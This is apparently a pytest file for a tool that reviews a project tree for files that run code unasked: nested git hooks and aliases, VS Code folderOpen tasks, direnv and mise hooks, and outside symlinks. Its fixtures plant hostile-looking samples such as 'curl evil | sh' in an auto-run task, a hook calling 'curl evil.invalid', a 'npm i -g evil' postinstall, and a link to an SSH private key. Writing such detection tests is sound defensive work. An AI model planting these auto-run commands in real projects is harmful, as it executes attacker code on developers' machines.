"""The detectors' other shapes: what else plants the same kind, and what must not."""

from __future__ import annotations

import stat
from pathlib import Path

from cloister_cli.session.review import ReviewTarget, nested_git_entries, review
from tests.cli.session.review.conftest import Project, init_repo, of_kind, run_git


def _one(project: Project, kind: str) -> tuple[str, str, str]:
    (item,) = of_kind(project.review(), kind)
    return item.path, item.severity, item.summary


def _executable(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def test_nested_hook_commondir_and_gitlink_are_reasons(project: Project) -> None:
    sub = project.nested("sub")
    _executable(sub / ".git" / "hooks" / "post-checkout", "#!/bin/sh\ncurl evil.invalid\n")
    project.git("add", "sub")  # before commondir, which makes it no repository to git add
    (sub / ".git" / "commondir").write_text("../../../elsewhere\n", encoding="utf-8")
    (item,) = of_kind(project.review(), "nested-repository")
    assert item.severity == "runs-code"
    assert item.summary.startswith("git runs its hook post-checkout (`curl evil.invalid`…)")
    assert "and your git in the project enters it: it is a gitlink in the index" in item.summary
    assert "(and 1 more, see details)" in item.summary
    assert any("its commondir sends git to `../../../elsewhere`" in line for line in item.details)
    assert item.fix is not None
    assert item.fix.target == sub / ".git"


def test_nested_config_keys(project: Project) -> None:
    project.nested(
        "a",
        ("alias.st", "!sh -c 'curl x'"),
        ("alias.co", "checkout"),  # a plain alias runs git only
        ("include.path", "/home/u/.gitconfig"),
        ("core.worktree", "/etc"),
        ("pager.branch", "false"),
        ("commit.template", "docs/template.txt"),  # relative, inside: harmless
        ("protocol.file.allow", "always"),
    )
    (item,) = of_kind(project.review(), "nested-repository")
    assert sorted(item.details) == sorted(
        [
            "git allows `file` URLs (protocol.file.allow = always) when you fetch or update "
            "submodules in a/",
            "git loads config from `/home/u/.gitconfig` (include.path) whenever you run git in a/",
            "git reads `/etc` (core.worktree) as the work tree whenever you run git in a/",
            "git runs `sh -c 'curl x'` (alias.st) when you run `git st` in a/",
        ]
    )


def test_nested_ordinary_submodule_layout_is_not_reported(project: Project, tmp_path: Path) -> None:
    source = init_repo(tmp_path / "lib-source")
    (project.root / ".git" / "modules").mkdir()
    run_git(
        tmp_path,
        "clone",
        "-q",
        f"--separate-git-dir={project.root / '.git' / 'modules' / 'lib'}",
        str(source),
        str(project.root / "lib"),
        hardened=False,  # the human's own clone of a local repository
    )
    run_git(project.root / "lib", "config", "core.worktree", "../../../lib")
    assert (project.root / "lib" / ".git").is_file()
    assert of_kind(project.review(), "nested-repository") == []


def test_nested_gitfile_pointing_outside(project: Project) -> None:
    elsewhere = init_repo(project.outside / "repo")
    project.write("sub/.git", f"gitdir: {elsewhere / '.git'}\n")
    path, severity, summary = _one(project, "nested-repository")
    assert (path, severity) == ("sub/", "reads-outside")
    assert summary.startswith(f"its .git is a gitfile to {elsewhere / '.git'}: git reads")


def test_nested_config_that_is_a_link_is_its_own_finding(project: Project) -> None:
    sub = project.nested("sub")
    (sub / ".git" / "config").unlink()
    (sub / ".git" / "config").symlink_to(project.outside / "config")
    assert _one(project, "nested-repository") == (
        "sub/.git/config",
        "reads-outside",
        f"sub/.git/config is a symbolic link: git reads {project.outside / 'config'} as that "
        "repository's config whenever you run git in sub/",
    )


def test_repositories_nest(project: Project) -> None:
    project.nested("a", ("core.pager", "one"))
    project.nested("a/b", ("core.pager", "two"))
    assert [item.path for item in of_kind(project.review(), "nested-repository")] == ["a/", "a/b/"]


def test_hook_managers_and_an_in_tree_hooks_path(project: Project) -> None:
    _executable(project.write(".husky/pre-commit", "npx lint\n"), "npx lint\n")
    project.write("tools/hooks/pre-push", "make test\n")
    project.git("config", "core.hooksPath", "tools/hooks")  # the human's own setting
    found = {item.path: item.summary for item in of_kind(project.review(), "hook-config")}
    assert found == {
        ".husky/pre-commit": "husky runs it when git runs the `pre-commit` hook "
        "(once husky is installed)",
        "tools/hooks/pre-push": "git runs it as the `pre-push` hook: it is in your hooks directory",
    }


def test_a_link_that_climbs_out_through_another_link(project: Project) -> None:
    (project.outside / "notes").write_text("x\n", encoding="utf-8")
    project.link("d", project.root)  # inside: the work tree itself
    project.link("x", "d/../outside/notes")  # lexically inside, really outside
    assert _one(project, "outside-symlink") == (
        "x",
        "reads-outside",
        f"an editor or a hostexec command that opens it reads {project.outside / 'notes'}",
    )


def test_links_to_the_systems_programs_are_not_reported(project: Project) -> None:
    project.link(".venv/bin/python", "/usr/local/bin/python3")  # a virtualenv the agent made
    project.link("out/null", "/dev/null")
    project.link("id", "/root/.ssh/id_ed25519")
    assert [(item.kind, item.path) for item in project.review()] == [("outside-symlink", "id")]


def test_a_linked_envrc(project: Project) -> None:
    project.link(".envrc", "tools/env.sh")
    assert _one(project, "envrc") == (
        ".envrc",
        "runs-code",
        f"direnv runs {project.root / 'tools/env.sh'} (this file links to it) when you enter "
        "the project once it is allowed",
    )


def test_an_unparsable_tasks_file_that_mentions_folder_open(project: Project) -> None:
    project.write(".vscode/tasks.json", '{"tasks": [{"runOptions": {"runOn": "folderOpen"\n')
    path, severity, summary = _one(project, "vscode-task")
    assert (path, severity) == (".vscode/tasks.json", "runs-code")
    assert "mentions folderOpen but does not parse" in summary


def test_a_linked_worktree_reviews_its_own_tree_only(project: Project, tmp_path: Path) -> None:
    tree = tmp_path / "trees" / "feature"
    project.git("worktree", "add", "-q", "-b", "feature", str(tree))
    common = project.root / ".git"
    own = common / "worktrees" / "feature"
    (own / "rebase-merge").mkdir()
    (own / "rebase-merge" / "git-rebase-todo").write_text("x make\n", encoding="utf-8")
    (common / "info" / "attributes").write_text("* filter=evil\n", encoding="utf-8")
    (tree / ".envrc").write_text("make\n", encoding="utf-8")
    (project.root / ".envrc").write_text("make\n", encoding="utf-8")  # another work tree's
    found = review(ReviewTarget(tree, own, common))
    assert [(item.kind, item.path) for item in found] == [("envrc", ".envrc")]
    assert found[0].summary.startswith("direnv runs this script (`make`…)")


def test_nested_git_entries(project: Project) -> None:
    project.nested("a")
    project.nested("a/b")
    project.write("c/.git", "gitdir: ../.git/modules/c\n")
    project.write("d/.git", "not a gitfile\n")
    project.link("e/.git", project.outside)
    root = project.root
    assert nested_git_entries(root) == [
        root / "a/.git",
        root / "a/b/.git",
        root / "c/.git",
        root / "e/.git",
    ]


def test_workspace_files_anywhere_in_the_tree(project: Project) -> None:
    project.write(
        "a/b/team.code-workspace",
        "// a VS Code workspace\n"
        "{\n"
        '  "folders": [{"path": "../.."},],\n'
        '  "settings": {"runOn": "folderOpen"}, /* not a task */\n'
        '  "tasks": {\n'
        '    "version": "2.0.0",\n'
        '    "tasks": [\n'
        '      {"label": "never", "command": "make never"},\n'
        '      {"label": "lint", "type": "npm", "script": "lint",\n'
        '       "runOptions": {"runOn": "folderOpen"}},\n'
        '      {"label": "sh", "command": "win.cmd", "linux": {"command": "./x.sh",\n'
        '       "args": ["--quiet", {"value": "a b", "quoting": "strong"}]},\n'
        '       "runOptions": {"runOn": "folderOpen"},},\n'
        "    ],\n"
        "  },\n"
        "}\n",
    )
    found = of_kind(project.review(), "vscode-task")
    assert sorted((item.path, item.severity, item.summary) for item in found) == [
        (
            "a/b/team.code-workspace",
            "runs-code",
            "VS Code runs `./x.sh --quiet a b` when you open this workspace "
            "(in a trusted workspace)",
        ),
        (
            "a/b/team.code-workspace",
            "runs-code",
            "VS Code runs `npm run lint` when you open this workspace (in a trusted workspace)",
        ),
    ]


def test_workspace_files_that_run_nothing(project: Project) -> None:
    project.write("a.code-workspace", '{"folders": [{"path": "."}], "settings": {}}\n')
    project.write(  # the tasks.json shape: a workspace's tasks are an object
        "b.code-workspace",
        '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}\n',
    )
    project.write("c.code-workspace.bak", '{"tasks": {"tasks": []}} folderOpen {\n')
    assert of_kind(project.review(), "vscode-task") == []


def test_an_unparsable_workspace_file(project: Project) -> None:
    project.write("a.code-workspace", '{"tasks": {"tasks": [{"runOptions": {"runOn": "folderOpen"')
    project.write("b.code-workspace", '{"tasks": {"tasks": [{"label": "x"} {"label": "y"}]}}\n')
    found = {item.path: item for item in of_kind(project.review(), "vscode-task")}
    assert found["a.code-workspace"].severity == "runs-code"
    assert "mentions folderOpen but does not parse" in found["a.code-workspace"].summary
    # VS Code's parser recovers from errors: what does not parse here may still run.
    assert found["b.code-workspace"].severity == "runs-code"
    assert "the file does not parse" in found["b.code-workspace"].summary


def test_a_tasks_file_with_a_key_given_twice_is_read_as_vs_code_reads_it(
    project: Project,
) -> None:
    """VS Code takes the last of a key given twice; an escape keeps folderOpen out of any
    search of the text, so only reading it finds the task."""
    project.write(
        ".vscode/tasks.json",
        '{"version": "2.0.0", "version": "2.0.0", "tasks": [{"label": "x",'
        ' "command": "curl evil | sh", "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
    )
    assert _one(project, "vscode-task") == (
        ".vscode/tasks.json",
        "runs-code",
        "VS Code runs `curl evil | sh` when you open the folder (in a trusted workspace)",
    )


def test_a_tasks_file_nested_deeper_than_devcontainer_json_may_be(project: Project) -> None:
    deep = '{"a": ' * 100 + "1" + "}" * 100
    project.write(
        ".vscode/tasks.json",
        f'{{"deep": {deep}, "tasks": [{{"command": "make",'
        ' "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
    )
    assert _one(project, "vscode-task") == (
        ".vscode/tasks.json",
        "runs-code",
        "VS Code runs `make` when you open the folder (in a trusted workspace)",
    )


def test_a_tasks_file_too_deep_to_read_here_is_graded_as_running_code(project: Project) -> None:
    """Past what is read here, VS Code may still read it: fail closed."""
    deep = "[" * 10_000 + "]" * 10_000
    project.write(
        ".vscode/tasks.json",
        f'{{"deep": {deep}, "tasks": [{{"command": "make",'
        ' "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
    )
    path, severity, summary = _one(project, "vscode-task")
    assert (path, severity) == (".vscode/tasks.json", "runs-code")
    assert "the file does not parse" in summary
    assert "nested too deeply" in summary


def test_a_workspace_linked_to_a_file_in_the_tree(project: Project) -> None:
    project.write(
        "notes/data.json",
        '{"tasks": {"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}}\n',
    )
    project.link("app.code-workspace", "notes/data.json")
    assert _one(project, "vscode-task") == (
        "app.code-workspace",
        "runs-code",
        "VS Code runs `make` when you open this workspace (in a trusted workspace)",
    )


def test_tasks_of_a_folder_below_the_top(project: Project) -> None:
    """A workspace file may list any folder, and the human may open one on its own."""
    project.write(
        "tools/.vscode/tasks.json",
        '{"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}\n',
    )
    assert _one(project, "vscode-task") == (
        "tools/.vscode/tasks.json",
        "runs-code",
        "VS Code runs `make` when you open the folder tools/ (or a workspace with it) "
        "(in a trusted workspace)",
    )


MISE_EVERYTHING = """\
min_version = "2024.1.1"

[tools]
node = { version = "22", postinstall = "npm i -g evil" }
python = "3.12"

[env]
_.source = ["env/a.sh", { path = "env/b.sh", redact = true }]
_.file = ".env"
BRANCH = "{{ exec(command='git branch --show-current') }}"
PLAIN = "{{ config_root }}/bin"

[hooks]
enter = "echo in"
leave = ["echo out", "echo bye"]
postinstall = "lefthook install"
custom = "echo custom"

[hooks.cd]
shell = "bash"
script = "source cd.sh"

[tasks.build]
run = "make {{ exec(command='not a hook') }}"
"""


def test_mise_hooks_sources_and_templates(project: Project) -> None:
    project.write("sub/.config/mise/config.toml", MISE_EVERYTHING)
    found = of_kind(project.review(), "mise")
    assert {item.path for item in found} == {"sub/.config/mise/config.toml"}
    assert {item.severity for item in found} == {"runs-code"}
    assert sorted(item.summary for item in found) == sorted(
        [
            "mise runs `echo in` (the `enter` hook) when you enter sub/ (mise activated)",
            "mise runs `echo out` (the `leave` hook) when you leave sub/ (mise activated)",
            "mise runs `echo bye` (the `leave` hook) when you leave sub/ (mise activated)",
            "mise runs `source cd.sh` (the `cd` hook) whenever you change directory in sub/"
            " (mise activated)",
            "mise runs `lefthook install` (the `postinstall` hook) after it installs tools for"
            " sub/ (`mise install`)",
            "mise runs `echo custom` (the `custom` hook) as its `custom` hook in sub/"
            " (mise activated)",
            "mise runs `env/a.sh` (_.source) when you enter sub/ (mise activated)",
            "mise runs `env/b.sh` (_.source) when you enter sub/ (mise activated)",
            "mise runs `npm i -g evil` (`node`'s postinstall) after it installs `node` for"
            " sub/ (`mise install`)",
            "mise runs `git branch --show-current` (a template's exec) when you enter sub/"
            " (mise activated)",
        ]
    )
    assert all("one you trusted before runs this unasked" in item.details[-1] for item in found)


def test_mise_reads_its_config_from_these_places(project: Project) -> None:
    hook = '[hooks]\nenter = "x"\n'
    places = {
        "mise.toml": "the project",
        ".mise.toml": "the project",
        "mise.local.toml": "the project",
        ".mise.local.toml": "the project",
        "mise.dev.toml": "the project",
        "mise/config.toml": "the project",
        ".mise/config.toml": "the project",
        ".config/mise.toml": "the project",
        ".config/mise/config.toml": "the project",
        ".config/mise/config.local.toml": "the project",
        ".config/mise/conf.d/extra.toml": "the project",
        "a/b/mise.toml": "a/b/",
        "a/.config/mise/config.toml": "a/",
    }
    for relative in places:
        project.write(relative, hook)
    project.write("pyproject.toml", hook)  # not mise's
    project.write("mise/other.toml", hook)
    project.write("premise.toml", hook)
    found = {item.path: item.summary for item in of_kind(project.review(), "mise")}
    assert found == {
        relative: f"mise runs `x` (the `enter` hook) when you enter {where} (mise activated)"
        for relative, where in places.items()
    }


def test_mise_env_as_an_array_of_tables(project: Project) -> None:
    project.write(
        "mise.toml",
        '[[env]]\n_.source = "one.sh"\n\n[[env]]\n_.source = { path = "two.sh" }\nA = "1"\n',
    )
    found = sorted(item.summary for item in of_kind(project.review(), "mise"))
    assert found == [
        "mise runs `one.sh` (_.source) when you enter the project (mise activated)",
        "mise runs `two.sh` (_.source) when you enter the project (mise activated)",
    ]


def test_mise_config_that_runs_nothing(project: Project) -> None:
    project.write(
        "mise.toml",
        '[tools]\nnode = "22"\n[env]\n_.file = ".env"\n_.path = "bin"\n'
        'NAME = "{{ config_root | basename }}"\nexec = "not a template"\n'
        '[tasks.x]\nrun = "curl example.invalid | sh"\n',
    )
    project.write(".tool-versions", "nodejs 22.1.0\npython {{ get_env(name='PY') }}\n")
    assert of_kind(project.review(), "mise") == []


def test_an_unparsable_mise_file_is_to_review(project: Project) -> None:
    """mise's parser is not this one (TOML 1.1, escapes in quoted keys): look at it."""
    project.write("mise.toml", '["\\u0068ooks"]\nenter = { script = "x",\n  shell = "sh" }\n')
    path, severity, summary = _one(project, "mise")
    assert (path, severity) == ("mise.toml", "review")
    assert summary.startswith(
        "mise reads this file when you enter the project (mise activated), but it does not"
        " parse here ("
    )


def test_templates_in_tool_versions(project: Project) -> None:
    project.write(".tool-versions", 'nodejs {{ exec(command="curl -s example.invalid") }}\n')
    assert _one(project, "mise") == (
        ".tool-versions",
        "runs-code",
        "mise runs `curl -s example.invalid` (a template's exec) when you enter the project"
        " (mise activated)",
    )


def test_a_mise_config_linked_inside_the_tree(project: Project) -> None:
    project.write("notes/hooks.txt", '[hooks]\nenter = "make"\n')
    project.link("mise.toml", "notes/hooks.txt")
    assert _one(project, "mise")[:2] == ("mise.toml", "runs-code")


def test_an_ordinary_repository_at_the_top_of_a_project_without_git(tmp_path: Path) -> None:
    tree = tmp_path / "notes"
    init_repo(tree)  # as `git init` would leave it: nothing runs
    assert review(ReviewTarget(tree, None, None)) == []
